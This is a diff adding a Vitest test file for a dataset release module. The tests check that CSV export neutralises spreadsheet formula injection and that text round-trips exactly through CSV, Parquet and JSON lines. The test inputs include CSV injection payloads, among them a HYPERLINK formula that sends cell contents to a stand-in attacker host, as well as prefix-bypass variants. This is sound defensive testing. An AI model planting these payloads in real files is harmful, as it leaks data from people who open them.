@@ -1,0 +1,88 @@
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { parse } from "csv-parse/sync";
+import { parquetReadObjects } from "hyparquet";
+import { expect, it, onTestFinished } from "vitest";
+import {
+  exactText,
+  fieldColumns,
+  toCsv,
+  toJsonLines,
+  toParquet,
+  toTable,
+} from "../../src/datasets/release/tables.js";
+import { readTable } from "../../src/research/ambik/table.js";
+
+const formulas = [
+  '=HYPERLINK("http://evil.example?"&A1)',
+  "=1+1",
+  "+49 30 1",
+  "-2+3",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  "\n=1",
+  " =1",
+  "\u00a0=1",
+  "\u200b=1",
+  "\ufeff@SUM(A1)",
+  "＝1+1",
+  "－1",
+  "'=1",
+  "''=1",
+  "'\t",
+  "=a,b\nc",
+];
+const harmless = ["mug 1", "", "a=b", "'tis", "it's", "2026-03-04", "x;y", 'she said "hi"', "'"];
+
+/** What a spreadsheet gets, whichever separator it splits at. */
+function cellsOf(csv: string): readonly string[] {
+  return (parse(csv, { columns: false }) as string[][]).flat();
+}
+
+it("writes no text as a formula, and reads each text back as it was", () => {
+  for (const text of [...formulas, ...harmless]) {
+    const csv = toCsv(toTable(fieldColumns("STRING", "text"), [{ text }]));
+    const [name, cell = ""] = cellsOf(csv.replace(/\n$/, ""));
+    expect(name).toBe("text");
+    expect(cell, JSON.stringify(text)).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
+    expect(exactText(cell), JSON.stringify(text)).toBe(text);
+  }
+  const plain = toCsv(toTable(fieldColumns("STRING", "text"), [{ text: "mug 1" }]));
+  expect(plain).toBe("text\nmug 1\n");
+});
+
+it("makes a column's name inert, and leaves numbers and truth values as they are", () => {
+  const columns = { "=a": ["STRING", () => null], n: ["DOUBLE", () => -1.5] } as const;
+  const csv = toCsv(toTable({ ...columns, b: ["BOOLEAN", () => true] }, [{}]));
+  expect(csv).toBe("'=a,n,b\n,-1.5,true\n");
+});
+
+it("keeps the exact text in Parquet and in JSON lines", async () => {
+  // The reader of Parquet takes a byte order mark away.
+  const rows = formulas.filter((text) => !text.startsWith("\ufeff")).map((text) => ({ text }));
+  const table = toTable(fieldColumns("STRING", "text"), rows);
+  const parquet = await parquetReadObjects({ file: new Uint8Array(toParquet(table)).buffer });
+  expect(parquet).toEqual(rows);
+  const lines = toJsonLines(rows).trimEnd().split("\n");
+  expect(lines.map((line) => JSON.parse(line))).toEqual(rows);
+});
+
+it("is read by the reader of AmbiK's columns as it was written", () => {
+  const folder = mkdtempSync(path.join(tmpdir(), "sous-tables-"));
+  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
+  const file = path.join(folder, "rows.csv");
+  // The reader turns line ends into line feeds.
+  const texts = formulas.filter((text) => !text.includes("\r"));
+  writeFileSync(
+    file,
+    toCsv(
+      toTable(
+        fieldColumns("STRING", "answer"),
+        texts.map((answer) => ({ answer })),
+      ),
+    ),
+  );
+  expect(readTable(file, ["answer"]).map(({ cells }) => cells.answer)).toEqual(texts);
+});
